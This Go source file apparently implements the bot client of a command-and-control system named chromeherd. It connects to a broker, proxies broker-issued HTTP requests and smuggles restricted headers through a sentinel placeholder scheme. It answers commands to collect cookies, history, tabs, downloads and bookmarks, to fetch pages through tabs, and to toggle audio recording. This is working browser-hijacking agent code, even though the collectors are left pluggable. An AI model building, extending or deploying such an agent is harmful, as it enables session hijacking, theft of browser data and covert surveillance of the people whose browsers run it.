// Package agent implements a reference bot client: it dials the
// broker, answers AUTH, executes proxied HTTP requests with the header
// placeholder protocol, and keeps the connection alive with periodic
// pings. The collection and navigation behaviors are pluggable so
// deployments and tests can supply their own.
package agent

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"
	"go.uber.org/zap"

	"github.com/chromeherd/chromeherd/internal/broker"
	"github.com/chromeherd/chromeherd/internal/headers"
	"github.com/chromeherd/chromeherd/internal/shared/id"
)

// State is the connection lifecycle stage.
type State string

const (
	StateDisconnected State = "DISCONNECTED"
	StateConnecting   State = "CONNECTING"
	StateConnected    State = "CONNECTED"
)

const (
	defaultPingInterval   = 13 * time.Second
	defaultReconnectDelay = 5 * time.Second
	sentinelLength        = 64
)

// Collector produces the records for one collection method.
type Collector func(ctx context.Context) (interface{}, error)

// Navigator handles a navigate-and-fetch request.
type Navigator func(ctx context.Context, url string) broker.NavigateResult

// Config configures an agent.
type Config struct {
	// URL is the broker WebSocket endpoint, e.g. ws://host:8080/ws.
	URL string
	// Identity is the stable bot identifier. Generated once if empty;
	// callers wanting persistence across restarts must supply it.
	Identity  string
	UserAgent string

	PingInterval   time.Duration
	ReconnectDelay time.Duration

	// Collectors maps collection methods to their producers. Missing
	// entries answer with an empty array.
	Collectors map[broker.Method]Collector
	// Navigate handles TAB_NAVIGATE_AND_FETCH. A nil Navigate answers
	// NO_TABS.
	Navigate Navigator
}

// Agent is one bot client instance.
type Agent struct {
	cfg      Config
	log      *zap.Logger
	sentinel string
	client   *http.Client

	mu        sync.Mutex
	state     State
	conn      *websocket.Conn
	writeMu   sync.Mutex
	switchCfg broker.SwitchConfig
	recording bool
}

// New creates an agent. The placeholder sentinel is generated once per
// agent and never rotated.
func New(cfg Config, log *zap.Logger) *Agent {
	if cfg.Identity == "" {
		cfg.Identity = uuid.NewString()
	}
	if cfg.UserAgent == "" {
		cfg.UserAgent = "chromeherd-agent/1.0"
	}
	if cfg.PingInterval <= 0 {
		cfg.PingInterval = defaultPingInterval
	}
	if cfg.ReconnectDelay <= 0 {
		cfg.ReconnectDelay = defaultReconnectDelay
	}
	sentinel := id.SecureToken(sentinelLength)
	return &Agent{
		cfg:      cfg,
		log:      log.Named("agent"),
		sentinel: sentinel,
		client: &http.Client{
			Transport: &headers.Transport{Sentinel: sentinel},
			// Redirects short-circuit back to the caller.
			CheckRedirect: func(req *http.Request, via []*http.Request) error {
				return http.ErrUseLastResponse
			},
		},
		state:     StateDisconnected,
		switchCfg: broker.DefaultSwitchConfig(),
	}
}

// Identity returns the agent's stable identifier.
func (a *Agent) Identity() string { return a.cfg.Identity }

// State returns the connection lifecycle stage.
func (a *Agent) State() State {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.state
}

func (a *Agent) setState(s State) {
	a.mu.Lock()
	a.state = s
	a.mu.Unlock()
}

// Run connects and serves until ctx is cancelled, reconnecting with a
// fixed delay after every connection loss.
func (a *Agent) Run(ctx context.Context) error {
	for {
		a.setState(StateConnecting)
		conn, _, err := websocket.DefaultDialer.DialContext(ctx, a.cfg.URL, nil)
		if err != nil {
			a.setState(StateDisconnected)
			a.log.Warn("Dial failed", zap.String("url", a.cfg.URL), zap.Error(err))
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-time.After(a.cfg.ReconnectDelay):
				continue
			}
		}

		a.mu.Lock()
		a.conn = conn
		a.state = StateConnected
		a.mu.Unlock()
		a.log.Info("Connected", zap.String("url", a.cfg.URL))

		a.serve(ctx, conn)
		a.setState(StateDisconnected)

		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(a.cfg.ReconnectDelay):
		}
	}
}

// serve pumps frames until the connection dies or ctx is cancelled.
func (a *Agent) serve(ctx context.Context, conn *websocket.Conn) {
	defer conn.Close()

	pingCtx, stopPing := context.WithCancel(ctx)
	defer stopPing()
	go a.pingLoop(pingCtx, conn)

	go func() {
		<-pingCtx.Done()
		conn.Close()
	}()

	for {
		_, raw, err := conn.ReadMessage()
		if err != nil {
			return
		}
		var env broker.CallEnvelope
		if err := json.Unmarshal(raw, &env); err != nil {
			a.log.Debug("Discarding unparseable frame", zap.Error(err))
			continue
		}
		a.applyConfig(env.Data)
		go a.dispatch(ctx, conn, env)
	}
}

func (a *Agent) pingLoop(ctx context.Context, conn *websocket.Conn) {
	ticker := time.NewTicker(a.cfg.PingInterval)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			a.sendEvent(conn, broker.EventPing, map[string]interface{}{})
		}
	}
}

// applyConfig picks the echoed switch configuration out of a call's
// data blob. The whole value is replaced, never merged.
func (a *Agent) applyConfig(data json.RawMessage) {
	if len(data) == 0 {
		return
	}
	var wrapper struct {
		SwitchConfig *broker.SwitchConfig `json:"switch_config"`
	}
	if err := json.Unmarshal(data, &wrapper); err != nil || wrapper.SwitchConfig == nil {
		return
	}
	a.mu.Lock()
	a.switchCfg = *wrapper.SwitchConfig
	a.mu.Unlock()
}

// SwitchConfig returns the last configuration echoed by the broker.
func (a *Agent) SwitchConfig() broker.SwitchConfig {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.switchCfg
}

func (a *Agent) write(conn *websocket.Conn, v interface{}) error {
	raw, err := json.Marshal(v)
	if err != nil {
		return err
	}
	a.writeMu.Lock()
	defer a.writeMu.Unlock()
	return conn.WriteMessage(websocket.TextMessage, raw)
}

func (a *Agent) reply(conn *websocket.Conn, env broker.CallEnvelope, result interface{}) {
	raw, err := json.Marshal(result)
	if err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}
	a.write(conn, map[string]interface{}{
		"id":            env.ID,
		"origin_action": string(env.Action),
		"result":        json.RawMessage(raw),
	})
}

func (a *Agent) replyError(conn *websocket.Conn, env broker.CallEnvelope, msg string) {
	a.write(conn, map[string]interface{}{
		"id":            env.ID,
		"origin_action": string(env.Action),
		"error":         msg,
	})
}

func (a *Agent) sendEvent(conn *websocket.Conn, action string, payload interface{}) {
	raw, err := json.Marshal(payload)
	if err != nil {
		return
	}
	a.write(conn, map[string]interface{}{
		"id":      uuid.NewString(),
		"version": broker.ProtocolVersion,
		"action":  action,
		"data":    json.RawMessage(raw),
	})
}

// SendEvent emits an unsolicited event on the live connection, if any.
func (a *Agent) SendEvent(action string, payload interface{}) {
	a.mu.Lock()
	conn := a.conn
	a.mu.Unlock()
	if conn != nil {
		a.sendEvent(conn, action, payload)
	}
}

// dispatch answers one call. Unknown methods are reported back rather
// than dropped so the broker can fail the pending call promptly.
func (a *Agent) dispatch(ctx context.Context, conn *websocket.Conn, env broker.CallEnvelope) {
	switch env.Action {
	case broker.MethodAuth:
		a.reply(conn, env, broker.AuthResult{
			Identity:  a.cfg.Identity,
			UserAgent: a.cfg.UserAgent,
			Timestamp: time.Now().Unix(),
		})
	case broker.MethodHTTPRequest:
		a.handleHTTPRequest(ctx, conn, env)
	case broker.MethodGetCookies, broker.MethodGetHistory, broker.MethodGetTabs,
		broker.MethodGetDownloads, broker.MethodGetBookmarks:
		a.handleCollect(ctx, conn, env)
	case broker.MethodTabNavigateAndFetch:
		a.handleNavigate(ctx, conn, env)
	case broker.MethodStopTabNavigate:
		a.reply(conn, env, broker.AckResult{Success: true})
	case broker.MethodStartAudio:
		a.mu.Lock()
		a.recording = true
		a.mu.Unlock()
		a.reply(conn, env, broker.AckResult{Success: true})
	case broker.MethodStopAudio:
		a.mu.Lock()
		a.recording = false
		a.mu.Unlock()
		a.reply(conn, env, broker.AckResult{Success: true})
	case broker.MethodPong:
		a.reply(conn, env, broker.AckResult{Success: true})
	default:
		a.replyError(conn, env, "METHOD_NOT_SUPPORTED")
	}
}

// Recording reports whether an audio capture is active.
func (a *Agent) Recording() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.recording
}

func (a *Agent) handleCollect(ctx context.Context, conn *websocket.Conn, env broker.CallEnvelope) {
	collector := a.cfg.Collectors[env.Action]
	if collector == nil {
		a.reply(conn, env, []interface{}{})
		return
	}
	records, err := collector(ctx)
	if err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}
	a.reply(conn, env, records)
}

func (a *Agent) handleNavigate(ctx context.Context, conn *websocket.Conn, env broker.CallEnvelope) {
	if a.cfg.Navigate == nil {
		a.reply(conn, env, broker.NavigateResult{Error: "NO_TABS"})
		return
	}
	var params broker.NavigateParams
	if err := json.Unmarshal(env.Data, &params); err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}
	a.reply(conn, env, a.cfg.Navigate(ctx, params.URL))
}

// handleHTTPRequest executes one proxied request. Restricted headers
// arrive placeholder-encoded; the agent attaches its sentinel so its
// own transport restores them just before the bytes leave.
func (a *Agent) handleHTTPRequest(ctx context.Context, conn *websocket.Conn, env broker.CallEnvelope) {
	var params broker.HTTPRequestParams
	if err := json.Unmarshal(env.Data, &params); err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}

	var body io.Reader
	if params.Body != "" {
		decoded, err := base64.StdEncoding.DecodeString(params.Body)
		if err != nil {
			a.replyError(conn, env, "SETUP_FAILED")
			return
		}
		body = strings.NewReader(string(decoded))
	}

	req, err := http.NewRequestWithContext(ctx, params.Method, params.URL, body)
	if err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}
	for name, value := range headers.Encode(params.Headers, a.sentinel) {
		req.Header.Set(name, value)
	}

	resp, err := a.client.Do(req)
	if err != nil {
		a.replyError(conn, env, "SETUP_FAILED")
		return
	}
	defer resp.Body.Close()

	result := broker.HTTPRequestResult{
		URL:        resp.Request.URL.String(),
		Status:     resp.StatusCode,
		StatusText: resp.Status,
		Headers:    flattenHeaders(resp.Header),
	}
	if broker.RedirectStatus(resp.StatusCode) {
		result.IsRedirect = true
	} else {
		raw, err := io.ReadAll(resp.Body)
		if err != nil {
			a.replyError(conn, env, "SETUP_FAILED")
			return
		}
		result.Body = base64.StdEncoding.EncodeToString(raw)
	}
	a.reply(conn, env, result)
}

func flattenHeaders(h http.Header) map[string]string {
	out := make(map[string]string, len(h))
	for name, values := range h {
		if len(values) > 0 {
			out[name] = values[0]
		}
	}
	return out
}
